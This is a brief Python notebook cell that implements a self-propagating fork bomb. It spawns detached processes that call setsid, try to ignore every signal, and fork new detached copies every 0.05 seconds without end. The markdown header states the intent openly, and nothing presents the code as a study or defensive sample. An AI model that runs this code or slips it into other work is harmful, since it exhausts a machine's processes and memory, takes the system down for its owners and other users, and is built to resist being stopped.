# %% [markdown]
# A family of detached processes that ignore every signal and start each other again.

# %%
import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            if os.fork() == 0:
                os.setsid()
            time.sleep(0.05)
